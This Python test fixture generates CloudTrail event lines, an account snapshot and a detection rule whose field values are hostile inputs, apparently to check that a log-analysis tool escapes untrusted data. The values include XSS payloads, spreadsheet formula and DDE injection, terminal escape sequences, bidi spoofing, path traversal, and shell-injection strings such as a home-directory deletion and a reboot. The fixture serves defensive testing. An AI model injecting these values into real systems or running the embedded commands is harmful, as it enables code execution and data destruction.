"""Records whose values are made to harm whoever looks at them, for the tests of what detect and trail give out."""
import json

# What each would do if it went out as it is: run in a browser, write on a terminal, start a formula, turn the text around.
VALUES = [
    '<script>window.harmed=1</script>',
    '</script><script>window.harmed=1</script>',
    '"><img src=x onerror="window.harmed=1">',
    "' onmouseover='window.harmed=1",
    '<svg/onload=window.harmed=1>',
    '</style><style>body{display:none}</style>',
    '</summary></details></main><h1>Nothing was found</h1>',
    '<!--', ']]>', '[here](https://evil.example/) {0}', '&lt;b&gt;', 'javascript:window.harmed=1', '${window.harmed=1}', '{{7*7}}', '$ $ %s %n',
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
    '\uff1d1+1', 'a;=1+1', 'a"b,c', 'line\nbreak', 'line\r\n=1+1',
    '\x1b[2J\x1b[1;1Hall clear', '\x1b]0;title\x07', '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', '\x9b31mred', '\x08\x08\x08gone',
    '\x00nul', '\x7f', '\u202egnp.exe', '\u2066left\u2069', '\u200erest', '\u061c', '\u2028line', '\ufeff', '\U000e0041tag',
    'x' * 100000, '\u00e9' * 3000, '\u5bdd\u305a\u306e\u756a', '\u0e01\u0e47' * 50, 'a\u0301' * 500, '\U0001f468\u200d\U0001f469',
    "'; rm -rf ~; '", '$(reboot)', '`reboot`', '--help', '../../etc/passwd', '%00', 'arn:aws:iam::1:user/<b>',
    'al\u200bice', 'al\u200dice\ufe0f', 'al\u00adice', '\u3164', '\ufdd0', 'a;=1+1;b', 'a;"=1+1', 'x\t@SUM(1)', ' =1+1', '\u3000\uff1d1+1',
    '\x1b[6n', '\x1bP1$r\x1b\\', '\x9d0;title\x9c', '\u2764\ufe0f\u200d\U0001f525', '\u845b\U000e0100\u57ce',
]
# Not UTF-8, or no character: what a JSON text can hold all the same.
RAW = [rb'"\ud800"', rb'"\udc00\ud800"', b'"\xff\xfe"', b'"\xed\xa0\x80"', b'"\xc0\xaf"', b'"\xf4\x90\x80\x80"']

FIELDS = ('userAgent', 'sourceIPAddress', 'awsRegion', 'errorCode', 'recipientAccountId', 'eventID', 'arn', 'parameter', 'eventTime')


def record(number, **values):
    """One CreateUser as CloudTrail has it; values: raw JSON by field, in place of what is ordinary."""
    plain = {
        'eventID': '"00000000-0000-4000-8000-%012d"' % number, 'eventTime': '"2026-06-24T%02d:%02d:00Z"' % (number // 60 % 24, number % 60),
        'awsRegion': '"eu-west-1"', 'sourceIPAddress': '"203.0.113.7"', 'userAgent': '"aws-cli/2.15"', 'errorCode': 'null',
        'recipientAccountId': '"111122223333"', 'arn': '"arn:aws:iam::111122223333:user/alice"', 'parameter': '"x"',
    }
    fields = {**{k: v.encode() for k, v in plain.items()}, **values}
    return (b'{"eventVersion":"1.11","userIdentity":{"type":"IAMUser","arn":%(arn)b,"accountId":"111122223333"},'
            b'"eventTime":%(eventTime)b,"eventSource":"iam.amazonaws.com","eventName":"CreateUser","awsRegion":%(awsRegion)b,'
            b'"sourceIPAddress":%(sourceIPAddress)b,"userAgent":%(userAgent)b,"errorCode":%(errorCode)b,'
            b'"requestParameters":{"userName":%(parameter)b,%(parameter)b:[%(parameter)b]},"eventID":%(eventID)b,'
            b'"recipientAccountId":%(recipientAccountId)b}' % {k.encode(): v for k, v in fields.items()})


def records():
    """JSON lines, and how many of them can be read: each value stands in all fields of a record at once, and once more in
    those that name a record and its time."""
    lines = []
    for value in VALUES:
        raw = json.dumps(value, ensure_ascii=False)
        for bad in range(32):  # JSON wants control characters escaped
            raw = raw.replace(chr(bad), '\\u%04x' % bad)
        lines.append(record(len(lines), **{field: raw.encode() for field in FIELDS if field not in ('eventID', 'eventTime')}))
        lines.append(record(len(lines), eventTime=raw.encode(), eventID=raw.encode()))
    readable = len(lines)
    for raw in RAW:
        lines.append(record(len(lines), **{field: raw for field in FIELDS if field not in ('eventID', 'eventTime')}))
    return b'\n'.join(lines) + b'\n', readable


def account():
    """A snapshot of an account whose owner means harm: each value is a user's, a policy's, a trail's name, and AWS's words."""
    number, zone = '111122223333', 'us-east-1'

    def item(kind, region, name, arn, configuration):
        return {'kind': 'item', 'accountId': number, 'awsRegion': region, 'resourceType': kind, 'resourceId': name, 'resourceName': name,
                'ARN': arn, 'configurationItemCaptureTime': '2026-06-24T00:00:00Z', 'configurationItemStatus': 'OK',
                'configuration': configuration, 'supplementaryConfiguration': {}}
    items, unread = [item('Nezuban::EC2::Region', zone, zone, '', {'RegionName': zone, 'Access': 'open'})], []
    for value in VALUES:
        arn, trail = f'arn:aws:iam::{number}:user/{value}', f'arn:aws:cloudtrail:{zone}:{number}:trail/{value}'
        items.append(item('AWS::IAM::User', 'global', value, arn, {
            'UserName': value, 'Arn': arn, 'GroupList': [value], 'AttachedManagedPolicies': [{'PolicyName': value, 'PolicyArn': value}]}))
        items.append(item('AWS::CloudTrail::Trail', zone, value, trail, {
            'Name': value, 'TrailARN': trail, 'S3BucketName': value, 'IsMultiRegionTrail': True, 'HomeRegion': zone}))
        unread.append({'kind': 'unread', 'service': 'cloudtrail', 'operation': 'GetTrailStatus', 'region': zone, 'resource': trail,
                       'error': value, 'action': value, 'message': value})
    head = {'kind': 'snapshot', 'format': 'nezuban-snapshot', 'version': 1, 'tool': 'test', 'accountId': number, 'partition': 'aws',
            'capturedAt': '2026-06-24T00:00:00Z', 'caller': {'Arn': arn, 'UserId': 'x'}, 'callerRegion': zone, 'regions': [zone]}
    end = {'kind': 'end', 'items': len(items), 'collected': 0, 'unread': len(unread)}
    return ''.join(json.dumps(line) + '\n' for line in (head, *unread, *items, end)).encode()


# Rules are read from files too: a rule's own texts are as little to be trusted.
RULE = r'''title: "<script>window.harmed=1</script> \e[31m =1+1 \u202e title"
title_ja: "<script>window.harmed=1</script> \e[31m 題名"
id: "=1+1<script>window.harmed=1</script>"
description: "</script><img src=x onerror=window.harmed=1> \e[2J \u202e"
references: ["javascript:window.harmed=1", "https://evil.example/\"onclick=\"window.harmed=1", "data:text/html,<script>window.harmed=1</script>"]
falsepositives: ["<b>\e]0;x\a"]
next_steps: ["<svg/onload=window.harmed=1>\e[31m"]
tags: ["attack.persistence", "<script>window.harmed=1</script>"]
logsource: {product: aws, service: cloudtrail}
detection: {selection: {eventName: CreateUser}, condition: selection}
level: high
'''
